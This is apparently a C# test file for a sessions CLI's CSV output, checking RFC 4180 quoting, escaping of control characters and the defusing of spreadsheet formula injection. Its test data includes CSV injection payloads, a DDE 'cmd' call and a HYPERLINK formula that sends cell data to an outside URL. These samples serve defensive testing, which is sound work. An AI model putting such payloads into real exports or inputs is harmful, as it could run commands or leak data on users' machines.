using System.Text;
using Sessions.Cli.Output;

namespace Sessions.Tests.Cli;

/// <summary><c>list</c> and <c>show</c> with <c>--output csv</c>: RFC 4180 records that a CSV reader reads back to the stored values.</summary>
public sealed class CsvOutputTests
{
    private const string Table = CliHarness.Table;
    private const string Header = "id,status,user,profile,server_instance_id,source_identity,started_at,last_access_at,expires_at,request_count,created_at,updated_at,revoked_by,revoked_reason,version";
    private readonly CliHarness _cli = new();

    [Fact]
    public async Task List_writes_a_header_and_one_CRLF_record_per_session_newest_first()
    {
        var older = await _cli.CreateAsync(user: "alice");
        var newer = await _cli.CreateAsync(user: "bob");
        await _cli.Store.TouchAsync(newer.Id);

        var result = await _cli.RunAsync("list", "--table", Table, "--output", "csv");

        result.ExitCode.Should().Be(0, result.ToString());
        result.Error.Should().BeEmpty();
        result.Out.Should().StartWith(Header + "\r\n").And.EndWith("\r\n");
        result.Out.Replace("\r\n", string.Empty, StringComparison.Ordinal).Should().NotContain("\n", "every line ends with CRLF");
        var records = Parse(result.Out);
        records.Should().HaveCount(3);
        records[1][0].Should().Be(newer.Id);
        records[1][2].Should().Be("bob");
        records[1][9].Should().Be("1");
        records[1][6].Should().Be("2026-01-20T02:00:00.0010000Z", "times are UTC ISO 8601 as stored");
        records[2][0].Should().Be(older.Id);
        records[2][12].Should().BeEmpty("an Active session has no revoker");
    }

    [Fact]
    public async Task Commas_quotes_and_line_breaks_are_quoted_and_read_back_exactly()
    {
        const string user = "O'Brien, \"Pat\"\r\nsecond line";
        var session = await _cli.CreateAsync(user: user, profile: "prod,eu");
        await _cli.Store.RevokeAsync(session.Id, "ops", "said \"leaked\"\nin CI");

        var result = await _cli.RunAsync("show", session.Id, "--table", Table, "--output", "csv");

        result.ExitCode.Should().Be(0, result.ToString());
        result.Out.Should().Contain("\"O'Brien, \"\"Pat\"\"\r\nsecond line\"").And.Contain("\"prod,eu\"");
        var records = Parse(result.Out);
        records.Should().HaveCount(2);
        records[0].Should().HaveCount(15);
        records[1].Should().HaveCount(15);
        records[1][2].Should().Be(user);
        records[1][3].Should().Be("prod,eu");
        records[1][1].Should().Be("revoked");
        records[1][13].Should().Be("said \"leaked\"\nin CI");
    }

    [Fact]
    public async Task Control_characters_other_than_CR_and_LF_are_escaped_visibly()
    {
        var session = await _cli.CreateAsync(user: "eve\u001b[8m\t\u202e", profile: "p\u0000");

        var result = await _cli.RunAsync("show", session.Id, "--table", Table, "--output", "csv");

        result.Out.Should().NotContainAny("\u001b", "\t", "\u202e", "\u0000");
        var record = Parse(result.Out)[1];
        record[2].Should().Be(@"eve\e[8m\t\u202e");
        record[3].Should().Be(@"p\x00");
    }

    [Fact]
    public async Task More_pages_are_announced_on_standard_error_so_standard_output_stays_CSV()
    {
        for (var i = 0; i < 3; i++)
        {
            await _cli.CreateAsync();
        }

        var result = await _cli.RunAsync("list", "--table", Table, "--limit", "2", "--output", "csv");

        result.ExitCode.Should().Be(0, result.ToString());
        Parse(result.Out).Should().HaveCount(3);
        result.Error.Should().StartWith("More sessions follow: repeat the command with --next ");
    }

    [Fact]
    public async Task An_empty_list_is_the_header_alone()
    {
        var result = await _cli.RunAsync("list", "--table", Table, "--output", "csv");

        result.Out.Should().Be(Header + "\r\n");
    }

    [Theory]
    [InlineData("list")]
    [InlineData("show")]
    public async Task Json_is_an_alias_of_output_json_and_output_human_is_the_default(string command)
    {
        var session = await _cli.CreateAsync();
        string[] target = command == "show" ? ["show", session.Id] : ["list"];

        var json = await _cli.RunAsync([.. target, "--table", Table, "--json"]);
        var outputJson = await _cli.RunAsync([.. target, "--table", Table, "--output", "json"]);
        var both = await _cli.RunAsync([.. target, "--table", Table, "--output", "json", "--json"]);
        var human = await _cli.RunAsync([.. target, "--table", Table, "--output", "human"]);
        var plain = await _cli.RunAsync([.. target, "--table", Table]);

        json.ExitCode.Should().Be(0, json.ToString());
        outputJson.Out.Should().Be(json.Out).And.StartWith("{");
        both.Out.Should().Be(json.Out);
        human.Out.Should().Be(plain.Out).And.NotStartWith("{");
    }

    [Theory]
    [InlineData("--output", "xml")]
    [InlineData("--output", "csv", "--json")]
    [InlineData("--output", "human", "--json")]
    public async Task A_bad_or_conflicting_format_exits_2(params string[] options)
    {
        var result = await _cli.RunAsync(["list", "--table", Table, .. options]);

        result.ExitCode.Should().Be(2, result.ToString());
        result.Out.Should().BeEmpty();
        result.Error.Should().StartWith("error: ").And.Contain("--output");
        _cli.Connections.Should().BeEmpty();
    }

    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    [InlineData(null, "")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("cr\rlf\n", "\"cr\rlf\n\"")]
    [InlineData(" spaced ", " spaced ")]
    [InlineData("bell\a", @"bell\x07")]
    [InlineData("O'Brien", "O'Brien")]
    [InlineData("a=b", "a=b")]
    public void Field_follows_RFC_4180(string? value, string expected)
    {
        CsvOutput.Field(value).Should().Be(expected);
    }

    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("=HYPERLINK(\"http://x\"&A2,\"open\")", "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"open\"\")\"")]
    [InlineData("@SUM(1+1)", "\"'@SUM(1+1)\"")]
    [InlineData("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"")]
    [InlineData("-1+1", "\"'-1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("'quoted", "\"''quoted\"")]
    [InlineData("\t=1+1", @"\t=1+1")]
    [InlineData("\u200b=1+1", @"\u200b=1+1")]
    public void A_field_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote_inside_a_quoted_field(string value, string expected)
    {
        CsvOutput.Field(value).Should().Be(expected);
    }

    [Fact]
    public async Task Hostile_users_profiles_instances_and_revocations_reach_a_spreadsheet_as_text()
    {
        const string user = "=HYPERLINK(\"http://x\"&A2,\"open\")";
        const string profile = "@SUM(1+1)";
        const string instance = "+cmd|' /C calc'!A0";
        var session = await _cli.Store.CreateAsync(ServerSession.Start(user, profile, instance, "-1+1", TimeSpan.FromHours(1), _cli.Time.GetUtcNow()));
        await _cli.Store.RevokeAsync(session.Id, "=1+1", "\r\n=2+2");

        foreach (var args in new[] { new[] { "list", "--status", "revoked" }, ["list", "--user", user, "--all"], ["show", session.Id] })
        {
            var result = await _cli.RunAsync([.. args, "--table", Table, "--output", "csv"]);

            result.ExitCode.Should().Be(0, result.ToString());
            var record = Parse(result.Out)[1];
            record[2].Should().Be("'" + user);
            record[3].Should().Be("'" + profile);
            record[4].Should().Be("'" + instance);
            record[5].Should().Be("'-1+1");
            record[12].Should().Be("'=1+1");
            record[13].Should().Be("'\r\n=2+2", "a line break first would start the cell's second line with a formula in some readers");
            Parse(result.Out).SelectMany(fields => fields).Should()
                .NotContain(cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), "no cell starts with a formula character");
        }
    }

    /// <summary>A strict RFC 4180 reader: fails on a quote inside an unquoted field or text after a closing quote.</summary>
    private static List<List<string>> Parse(string csv)
    {
        var records = new List<List<string>>();
        var record = new List<string>();
        var field = new StringBuilder();
        var i = 0;
        while (i < csv.Length)
        {
            if (csv[i] == '"')
            {
                i++;
                while (true)
                {
                    if (csv[i] == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                    {
                        field.Append('"');
                        i += 2;
                    }
                    else if (csv[i] == '"')
                    {
                        i++;
                        break;
                    }
                    else
                    {
                        field.Append(csv[i++]);
                    }
                }

                (i == csv.Length || csv[i] == ',' || csv[i] == '\r').Should().BeTrue("a closing quote ends the field");
            }

            while (i < csv.Length && csv[i] != ',' && csv[i] != '\r')
            {
                csv[i].Should().NotBe('"', "a quote appears only in a quoted field");
                csv[i].Should().NotBe('\n', "a bare LF appears only in a quoted field");
                field.Append(csv[i++]);
            }

            record.Add(field.ToString());
            field.Clear();
            if (i < csv.Length && csv[i] == ',')
            {
                i++;
                continue;
            }

            csv.Substring(i, 2).Should().Be("\r\n", "records end with CRLF");
            i += 2;
            records.Add(record);
            record = [];
        }

        return records;
    }
}
